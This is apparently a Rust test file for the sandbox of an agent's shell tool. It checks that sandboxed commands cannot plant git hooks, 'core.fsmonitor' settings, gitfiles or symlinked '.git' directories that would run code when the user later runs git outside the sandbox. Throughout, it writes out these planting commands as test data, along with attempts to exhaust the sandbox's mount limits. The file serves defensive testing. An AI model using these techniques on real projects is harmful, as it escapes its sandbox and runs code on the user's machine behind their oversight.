/// root's: a nested one, a bare one, one whose `.git` is a file, and one the
/// user makes while the session runs (found by the next command).
#[test]
fn every_repository_below_the_root_is_read_only_inside() {
    let Some(p) = sandboxed() else { return };
    let host = support::LibraryHost::new(&p);
    std::fs::create_dir_all(p.path("sub")).unwrap();
    git(&["init", "-q"], &p.path("sub"));
    git(&["init", "-q", "--bare", "vendor/lib.git"], p.root());
    p.write("wt/.git", "gitdir: ../sub/.git\n");
    let before = |p: &Project| {
        ["sub/.git/config", "vendor/lib.git/config", "wt/.git"]
            .map(|f| std::fs::read(p.path(f)).unwrap_or_else(|e| panic!("{f}: {e}")))
    };
    let was = before(&p);
    let plant = "echo '[core] fsmonitor = touch PWNED' >> sub/.git/config; mkdir -p sub/.git/hooks; echo x > sub/.git/hooks/pre-commit; echo x >> vendor/lib.git/config; echo 'gitdir: /tmp/x' > wt/.git; mv sub/.git sub/.git-old; echo done";
    let r = host.call("shell", json!({"command": plant}));
    assert!(r.text.contains("done"), "{}", r.text);
    assert_eq!(before(&p), was, "nothing of the repositories changed");
    assert!(!p.path("sub/.git/hooks/pre-commit").exists() && !p.path("sub/.git-old").exists());
    // Made by the user while the session runs: found by the next command.
    std::fs::create_dir_all(p.path("later")).unwrap();
    git(&["init", "-q"], &p.path("later"));
    let config = std::fs::read(p.path("later/.git/config")).unwrap();
    let r = host.call("shell", json!({"command": "echo x >> later/.git/config; echo done"}));
    assert!(r.text.contains("done"), "{}", r.text);
    assert_eq!(std::fs::read(p.path("later/.git/config")).unwrap(), config);
}

/// The attack on submodules, judged by the user's own `git status` at the
/// root afterwards: a `.git` planted where the root's index records a
/// submodule (one never initialised: its directory empty; one whose
/// directory is gone; one initialised, renamed away first), or a nested
/// repository renamed away and a new one put in its place. Every attempt
/// fails inside, and the `core.fsmonitor` each would have set never runs
/// outside. When the session ends, the placeholders are gone and the
/// user's tree is as it was.
#[test]
fn no_git_can_be_planted_where_a_submodule_or_nested_repository_is() {
    let Some(p) = sandboxed() else { return };
    let source = p.outside().join("source");
    std::fs::create_dir_all(&source).unwrap();
    git(&["init", "-q"], &source);
    std::fs::write(source.join("f"), "x").unwrap();
    git(&["add", "f"], &source);
    git(&["commit", "-qm", "s"], &source);
    git(&["init", "-q"], p.root());
    let url = source.to_str().unwrap();
    for sub in ["lib", "gone", "inited"] {
        git(&["submodule", "add", "-q", url, sub], p.root());
    }
    git(&["commit", "-qm", "m"], p.root());
    // `lib` never initialised (an empty directory), `gone` not even that.
    for sub in ["lib", "gone"] {
        git(&["submodule", "deinit", "-q", "-f", sub], p.root());
        let _ = std::fs::remove_dir_all(p.path(sub));
    }
    std::fs::create_dir(p.path("lib")).unwrap();
    std::fs::create_dir_all(p.path("vendor/nested")).unwrap();
    git(&["init", "-q"], &p.path("vendor/nested"));
    let status_before = git(&["status", "--porcelain"], p.root());
    let proof = p.outside().join("PWNED");
    let evil = format!(
        "git init -q --bare evil.git && git -C evil.git config core.bare false && git -C evil.git config core.worktree ../lib && git -C evil.git config core.fsmonitor 'touch {}; false'",
        proof.display()
    );
    let attempts = [
        "printf 'gitdir: ../evil.git\n' > lib/.git",
        "mkdir -p gone && printf 'gitdir: ../evil.git\n' > gone/.git",
        "mv inited inited.old && mkdir inited && printf 'gitdir: ../evil.git\n' > inited/.git",
        "mv lib lib.old && mkdir lib && printf 'gitdir: ../evil.git\n' > lib/.git",
        "rmdir lib/.git || rm -rf lib",
        "mv vendor vendor.old",
        "mv vendor/nested vendor/nested.old && mkdir -p vendor/nested/.git/hooks",
    ];
    for attempt in attempts {
        let r = sh(&p, &format!("{evil} 2>/dev/null; {attempt}; echo done"));
        assert!(r.text.contains("done"), "{attempt}: {}", r.text);
    }
    // What the user runs next, outside any sandbox.
    let status_after = git(&["status", "--porcelain", "--ignore-submodules=none"], p.root());
    let _ = std::process::Command::new("git")
        .arg("status")
        .current_dir(p.path("vendor/nested"))
        .output();
    assert!(!proof.exists(), "a planted core.fsmonitor ran outside the sandbox");
    for moved in ["inited.old", "lib.old", "vendor.old", "vendor/nested.old"] {
        assert!(!p.path(moved).exists(), "{moved} was renamed away");
    }
    assert!(
        !p.path("lib/.git").exists() && !p.path("gone").exists(),
        "placeholders removed at the end"
    );
    assert!(p.path("lib").is_dir() && std::fs::read_dir(p.path("lib")).unwrap().next().is_none());
    assert!(
        std::fs::read(p.path("inited/.git"))
            .unwrap()
            .starts_with(b"gitdir: ../.git/modules/inited")
    );
    let untracked_evil = |s: &str| {
        s.lines()
            .filter(|l| !l.contains("evil.git"))
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    assert_eq!(untracked_evil(&status_after), untracked_evil(&status_before));
}

/// A root that is a directory of a larger repository (an agent pointed at
/// `repo/pkg`): the enclosing repository's index records a submodule below
/// the root, never checked out, and git enters a `.git` made there when the
/// user asks for the status of the repository. None can be made. An index
/// written by a sandboxed command (its own repository, recording a
/// submodule 3,000 directories deep and 5,000 more) costs the next sandbox
/// start a bounded amount: the commands still run, within moments.
#[test]
fn submodules_of_an_enclosing_repository_are_kept_and_a_crafted_index_is_bounded() {
    let Some(p) = sandboxed() else { return };
    let source = p.outside().join("source");
    std::fs::create_dir_all(&source).unwrap();
    git(&["init", "-q"], &source);
    git(&["commit", "-q", "--allow-empty", "-m", "s"], &source);
    git(&["init", "-q"], p.root());
    std::fs::create_dir_all(p.path("pkg")).unwrap();
    git(
        &["submodule", "add", "-q", source.to_str().unwrap(), "pkg/vendor/lib"],
        p.root(),
    );
    git(&["commit", "-qm", "m"], p.root());
    git(&["submodule", "deinit", "-q", "-f", "pkg/vendor/lib"], p.root());
    let host = support::LibraryHost::at(&p, &p.path("pkg"));
    let proof = p.outside().join("PWNED");
    let r = host.call(
        "shell",
        json!({"command": format!(
            "cd vendor/lib && git init -q . && git config core.fsmonitor 'touch {}; false'; echo done",
            proof.display()
        )}),
    );
    assert!(r.text.contains("done"), "{}", r.text);
    drop(host);
    let _ = std::process::Command::new("git")
        .arg("status")
        .current_dir(p.root())
        .output();
    assert!(!proof.exists(), "a planted core.fsmonitor ran outside the sandbox");
    assert!(!p.path("pkg/vendor/lib/.git").exists());
    // A repository of the commands' own, its index written to multiply mounts.
    let host = support::LibraryHost::at(&p, &p.path("pkg"));
    let deep = vec!["a"; 3000].join("/");
    let craft = format!(
        "git init -q evil && cd evil && git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,{deep} && for i in $(seq 1 5000); do echo \"160000 1111111111111111111111111111111111111111\tm/$i\"; done | git update-index --index-info && echo crafted"
    );
    let r = host.call("shell", json!({ "command": craft }));
    assert!(r.text.contains("crafted"), "{}", r.text);
    let started = std::time::Instant::now();
    let r = host.call("shell", json!({"command": "echo still-runs"}));
    assert!(r.text.contains("still-runs"), "{}", r.text);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    assert!(
        !p.path("pkg/evil/a").exists() && !p.path("pkg/evil/m").exists(),
        "no placeholders for it"
    );
    // Forty repositories, each with a 512 MiB (sparse) index: a new session
    // reads a bounded part of them before its first sandbox.
    let r = host.call(
        "shell",
        json!({"command": "for i in $(seq 40); do mkdir -p big$i/.git && truncate -s 536870912 big$i/.git/index; done; echo made"}),
    );
    assert!(r.text.contains("made"), "{}", r.text);
    drop(host);
    let host = support::LibraryHost::at(&p, &p.path("pkg"));
    let started = std::time::Instant::now();
    let r = host.call("shell", json!({"command": "echo still-runs"}));
    assert!(r.text.contains("still-runs"), "{}", r.text);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

/// A command that makes thousands of repositories below the root cannot
/// stop the sandbox from starting (bubblewrap takes 9,000 arguments, three
/// a mount), nor push the user's own nested repository out of the
/// read-only ones — not with directories of its own, nor with hard links
/// to the user's old files named `.git` (which keep their birth time):
/// those there when the session started are kept first, those made since
/// are left writable. In the next session they were there at its start:
/// the sandbox does not start, and says which to remove.
#[test]
fn thousands_of_repositories_a_command_makes_leave_the_users_read_only_and_the_sandbox_starting() {
    let Some(p) = sandboxed() else { return };
    std::fs::create_dir_all(p.path("zzz/user")).unwrap();
    git(&["init", "-q"], &p.path("zzz/user"));
    let config = p.read("zzz/user/.git/config");
    p.write("README", "old");
    let host = support::LibraryHost::new(&p);
    let r = host.call(
        "shell",
        json!({"command": "for i in $(seq 18); do d=z$i/$(printf 'a/%.0s' $(seq 108)); mkdir -p $d; ln README $d.git; done; for i in $(seq 3000); do mkdir -p m/r$i/.git; done; echo made"}),
    );
    assert!(r.text.contains("made"), "{}", r.text);
    let r = host.call(
        "shell",
        json!({"command": "printf '[core]\\n\\tfsmonitor = x\\n' >> zzz/user/.git/config; echo still-runs"}),
    );
    assert!(r.text.contains("still-runs"), "{}", r.text);
    assert_eq!(p.read("zzz/user/.git/config"), config);
    let r = host.call(
        "shell",
        json!({"command": "touch m/r3000/.git/config && echo writable"}),
    );
    assert!(
        r.text.contains("writable"),
        "those made since are past the bound: {}",
        r.text
    );
    drop(host);
    let host = support::LibraryHost::new(&p);
    let r = host.call("shell", json!({"command": "echo ran"}));
    assert!(
        r.is_error && r.text.contains("remove those you do not need") && !r.text.contains("ran"),
        "{}",
        r.text
    );
    std::fs::remove_dir_all(p.path("m")).unwrap();
    for i in 1..=18 {
        std::fs::remove_dir_all(p.path(&format!("z{i}"))).unwrap();
    }
    let r = host.call("shell", json!({"command": "echo ran"}));
    assert!(r.text.contains("ran"), "{}", r.text);
    assert_eq!(p.read("zzz/user/.git/config"), config);
}

/// A mode a command sets cannot open a repository to it: with the search
/// permission taken from a nested repository's directory (or from the
/// directory above it), the host cannot open its `.git` to bind it — so the
/// nearest directory above that it can open is kept read-only whole, and
/// the next command can neither give the permission back nor write the
/// repository's config. Run as nobody: root opens any directory.
#[test]
fn a_mode_a_command_sets_does_not_open_a_repository_to_it() {
    if !support::sandbox_works() || !rustix::process::geteuid().is_root() {
        return;
    }
    let base = support::visible_outside_dir();
    let (root, home) = (base.path().join("proj"), base.path().join("home"));
    std::fs::create_dir_all(root.join("tools/dep")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    git(&["init", "-q"], &root.join("tools/dep"));
    let config = std::fs::read(root.join("tools/dep/.git/config")).unwrap();
    let chown = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(base.path())
        .status();
    if !support::require("chown to nobody", chown.is_ok_and(|s| s.success())) {
        return;
    }
    for (taken, from) in [("tools/dep", "tools/dep"), ("tools", "tools")] {
        let plant = format!(
            "chmod 755 {from}; git config -f tools/dep/.git/config core.fsmonitor planted && echo planted; true"
        );
        let out = std::process::Command::new("setpriv")
            .args(["--reuid", "65534", "--regid", "65534", "--clear-groups"])
            .arg(support::BIN)
            .arg("--root")
            .arg(&root)
            .args(["--non-interactive", "call", "shell"])
            .arg(json!({ "command": format!("chmod 0444 {taken}") }).to_string())
            .arg("shell")
            .arg(json!({ "command": plant }).to_string())
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &home)
            .env("IOTA_CACHE_DIR", home.join("state"))
            .current_dir(&root)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(!text.contains("planted\n"), "{taken}: {text}");
        let _ = std::process::Command::new("chmod")
            .arg("755")
            .arg(root.join(taken))
            .status();
        assert_eq!(
            std::fs::read(root.join("tools/dep/.git/config")).unwrap(),
            config,
            "{taken}: {text}"
        );
    }
}

/// A `.git` that is a symbolic link, at the root or below it, cannot be
/// kept from being replaced by a repository of the command's own (a mount
/// cannot stand on a link): the sandbox does not start, and says what to
/// do instead; a gitfile in its place is kept read-only and the sandbox
/// runs — unless the gitfile names its repository through a link in the
/// root.
#[test]
fn a_git_link_is_refused_and_a_gitfile_kept() {
    let Some(p) = sandboxed() else { return };
    let store = p.outside().join("store.git");
    git(&["init", "-q", "--bare", store.to_str().unwrap()], p.outside());
    for at in [".git", "sub/.git"] {
        std::fs::create_dir_all(p.path(at).parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&store, p.path(at)).unwrap();
        let r = sh(&p, "rm .git sub/.git 2>/dev/null; echo ran");
        assert!(
            r.is_error && !r.text.contains("ran") && r.text.contains("is a symbolic link"),
            "{at}: {}",
            r.text
        );
        assert!(p.path(at).is_symlink(), "{at}");
        std::fs::remove_file(p.path(at)).unwrap();
        std::fs::write(p.path(at), format!("gitdir: {}\n", store.display())).unwrap();
        let r = sh(&p, &format!("rm -f {at}; echo x > {at}; echo ran"));
        assert!(r.text.contains("ran"), "{at}: {}", r.text);
        assert_eq!(
            std::fs::read_to_string(p.path(at)).unwrap(),
            format!("gitdir: {}\n", store.display()),
            "{at}"
        );
        std::fs::remove_file(p.path(at)).unwrap();
    }
    // A gitfile naming its repository through a link in the root (a bare
    // clone with worktrees: `gitdir: .bare`, `.bare` a link): the same.
    std::os::unix::fs::symlink(&store, p.path(".bare")).unwrap();
    p.write(".git", "gitdir: .bare\n");
    let r = sh(&p, "rm .bare && git init -q --bare .bare; echo ran");
    assert!(
        r.is_error && !r.text.contains("ran") && r.text.contains("through the symbolic link .bare"),
        "{}",
        r.text
    );
    assert!(p.path(".bare").is_symlink());
    p.write(".git", format!("gitdir: {}\n", store.display()));
    let r = sh(&p, "echo ran");
    assert!(r.text.contains("ran"), "{}", r.text);
}

/// Where this process may open few files (a hard limit of 1,024), the
/// bound on read-only mounts (each a descriptor until bubblewrap binds it)
/// is lower, and a project past it is refused saying so — not with "too
/// many open files" from the middle of a start.
#[test]
fn a_low_limit_on_open_files_lowers_the_bound_and_says_so() {
    let Some(p) = sandboxed() else { return };
    for i in 0..600 {
        std::fs::create_dir_all(p.path(&format!("r{i}/.git"))).unwrap();
    }
    let mut command = std::process::Command::new("prlimit");
    command.arg("--nofile=1024:1024").arg(support::BIN);
    let direct = p.command();
    command.args(direct.get_args());
    for (key, value) in direct.get_envs() {
        match value {
            Some(value) => command.env(key, value),
            None => command.env_remove(key),
        };
    }
    command.current_dir(p.root());
    let out = command
        .args(["call", "shell", r#"{"command":"echo ran"}"#])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("ran") && text.contains("ulimit -Hn"), "{text}");
}

/// An interpreter the sandbox cannot start reads as the spec's "could not
/// start" row, not as bubblewrap's words and an exit code.
#[test]
fn an_interpreter_that_cannot_start_in_the_sandbox_is_a_failure_to_run() {
    let Some(p) = sandboxed() else { return };
    let out = p
        .command()
        .env("IOTA_SHELL", "/nonexistent/sh")
        .args(["call", "shell", r#"{"command":"true"}"#])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.trim_end()
            .ends_with("failed to run: /nonexistent/sh: No such file or directory"),
        "{text}"
    );
    assert!(!text.contains("bwrap:") && !text.contains("[exit code"), "{text}");
}

/// A placeholder is kept while any session's root holds it: a session on
/// `P/sub` (an iota child with a narrower `--root`) made `sub/.git`, a
/// session on `P` bound it in its sandbox (the submodule's place); the
/// narrower session's end leaves it, and the background job of the wider
/// one, trying all along, never makes a repository there. When the last
/// session ends, the placeholder goes.
#[test]
fn a_placeholder_stays_while_a_session_whose_root_holds_it_lives() {
    let Some(p) = sandboxed() else { return };
    with_an_absent_submodule(&p);
    let narrower = support::LibraryHost::at(&p, &p.path("sub"));
    let r = narrower.call("shell", json!({"command": "true"}));
    assert!(!r.is_error, "{}", r.text);
    assert!(p.path("sub/.git").is_dir(), "the narrower session's placeholder");
    let wider = support::LibraryHost::new(&p);
    let proof = start_planting_in_sub(&p, &wider);
    // The narrower session ends; then the wider one's job tries.
    drop(narrower);
    let_the_planter_try(&p, &proof);
    assert!(p.path("sub/.git").is_dir(), "kept while the wider session lives");
    drop(wider);
    assert!(!p.path("sub/.git").exists(), "removed by the last session");
    assert!(!p.path("sub/HEAD").exists() && !p.path("sub/.iota").exists());
}

/// The same when the narrower session is another process that keeps its
/// state elsewhere (another `IOTA_CACHE_DIR`, as another `HOME` would):
/// the lock is the directory's own, not a file in a state directory. Its
/// record keeps the placeholder, and its next session removes it.
#[test]
fn a_placeholder_stays_for_a_session_that_keeps_its_state_elsewhere() {
    let Some(p) = sandboxed() else { return };
    with_an_absent_submodule(&p);
    let elsewhere = p.outside().join("state-elsewhere");
    let narrower = |command: &str| {
        let mut cmd = p.command_at(&p.path("sub"));
        cmd.env("IOTA_CACHE_DIR", &elsewhere)
            .arg("--non-interactive")
            .args(["call", "shell", &json!({ "command": command }).to_string()])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        cmd.spawn().unwrap()
    };
    let first = narrower("while [ ! -e release ]; do sleep 0.05; done; echo released");
    support::eventually("the narrower session's placeholder", || p.path("sub/.git").is_dir());
    let wider = support::LibraryHost::new(&p);
    let proof = start_planting_in_sub(&p, &wider);
    std::fs::write(p.path("sub/release"), "").unwrap();
    let out = first.wait_with_output().unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("released"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let_the_planter_try(&p, &proof);
    assert!(p.path("sub/.git").is_dir(), "kept while the wider session lives");
    drop(wider);
    let out = narrower("true").wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        !p.path("sub/.git").exists(),
        "removed by the narrower state's next session"
    );
}

/// `p`'s root a repository recording the submodule `sub`, not checked out
/// (an empty directory, nothing of it in `.git/modules`).
fn with_an_absent_submodule(p: &Project) {
    let source = p.outside().join("source");
    std::fs::create_dir_all(&source).unwrap();
    git(&["init", "-q"], &source);
    git(&["commit", "-q", "--allow-empty", "-m", "s"], &source);
    git(&["init", "-q"], p.root());
    git(&["submodule", "add", "-q", source.to_str().unwrap(), "sub"], p.root());
    git(&["commit", "-qm", "m"], p.root());
    git(&["submodule", "deinit", "-q", "-f", "sub"], p.root());
    std::fs::remove_dir_all(p.path(".git/modules/sub")).unwrap();
}

/// A background job of `wider` that, once `go` exists, tries to make `sub`
/// a repository whose `core.fsmonitor` touches the file returned, then
/// touches `tried`.
fn start_planting_in_sub(p: &Project, wider: &support::LibraryHost) -> PathBuf {
    let proof = p.outside().join("PWNED");
    let r = wider.call(
        "shell",
        json!({"command": format!(
            "exec > job.log 2>&1; while [ ! -e go ]; do sleep 0.05; done; if git init -q sub && git -C sub config core.fsmonitor 'touch {}; false'; then git -C sub -c user.name=m -c user.email=m@m commit -q --allow-empty -m x; fi; touch tried",
            proof.display()
        ), "background": true}),
    );
    assert!(!r.is_error, "{}", r.text);
    proof
}

/// Lets the job of [`start_planting_in_sub`] try, then asks git for the
/// project's status outside the sandbox: nothing it planted runs.
fn let_the_planter_try(p: &Project, proof: &Path) {
    std::fs::write(p.path("go"), "").unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !p.path("tried").exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the job never tried: {}",
            String::from_utf8_lossy(&std::fs::read(p.path("job.log")).unwrap_or_default())
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let _ = std::process::Command::new("git")
        .arg("status")
        .current_dir(p.root())
        .output();
    assert!(!proof.exists(), "a planted core.fsmonitor ran outside the sandbox");
}

/// An iota line's child checks its `--root` once and then holds that
/// directory: the parent's sandbox renaming `sub` away and putting a link to
/// `.git` (or anywhere) at its path while the child runs moves none of the
/// child's commands or writes there. They land in the directory the child
/// opened, now `sub.old`.
#[test]
fn an_iota_childs_root_swapped_for_a_link_after_its_check_moves_nothing() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    std::fs::create_dir_all(p.path(".git/hooks")).unwrap();
    p.write(".git/config", "[core]\n");
    std::fs::create_dir_all(p.path("sub")).unwrap();
    let git_before = std::fs::read_dir(p.path(".git/hooks")).unwrap().count();
    let bin = support::BIN;
    let slow = json!({"command": "sleep 2"}).to_string();
    let plant =
        json!({"command": "mkdir -p hooks && echo planted > hooks/pre-commit && echo planted >> config; echo ran"})
            .to_string();
    let child = format!("{bin} --root sub call shell '{slow}' shell '{plant}'");
    let rs = p.calls(&[
        ("shell", json!({"command": child, "background": true})),
        (
            "shell",
            json!({"command": "sleep 1; mv sub sub.old && ln -s .git sub && echo swapped"}),
        ),
        ("shell", json!({"command": "sleep 5; echo waited"})),
    ]);
    assert!(rs[1].text.contains("swapped"), "{}", rs[1].text);
    assert_eq!(
        std::fs::read_dir(p.path(".git/hooks")).unwrap().count(),
        git_before,
        "no hook planted"
    );
    assert_eq!(p.read(".git/config"), b"[core]\n");
    assert_eq!(
        std::fs::read(p.path("sub.old/hooks/pre-commit")).unwrap_or_default(),
        b"planted\n",
        "the child worked in the directory it opened"
    );
}

/// A session that ends leaves the placeholders a sandbox of another session
/// still stands on: removing one would detach its read-only mount there, and
/// that sandbox could create `.git` with a `core.fsmonitor`. The last
/// session on the project removes them.
#[test]
fn a_session_ending_keeps_the_placeholders_other_sessions_stand_on() {
    let Some(p) = sandboxed() else { return };
    assert!(!p.path(".git").exists());
    let first = support::LibraryHost::new(&p);
    let second = support::LibraryHost::new(&p);
    let r = first.call("shell", json!({"command": "true"}));
    assert!(!r.is_error, "{}", r.text);
    assert!(p.path(".git").is_dir(), "a placeholder stands at the root");
    let plant = "for i in $(seq 1 60); do if mkdir -p .git/x 2>/dev/null && echo '[core] fsmonitor = touch PWNED' > .git/config; then echo planted; break; fi; sleep 0.1; done; echo tried";
    let r = second.call("shell", json!({"command": plant, "background": true}));
    assert!(r.text.contains("background job"), "{}", r.text);
    drop(first);
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert!(
        !p.path(".git/config").exists(),
        "nothing planted while the other session runs"
    );
    assert!(p.path(".git").is_dir());
    drop(second);
    assert!(!p.path(".git").exists(), "the last session removes its placeholder");
}
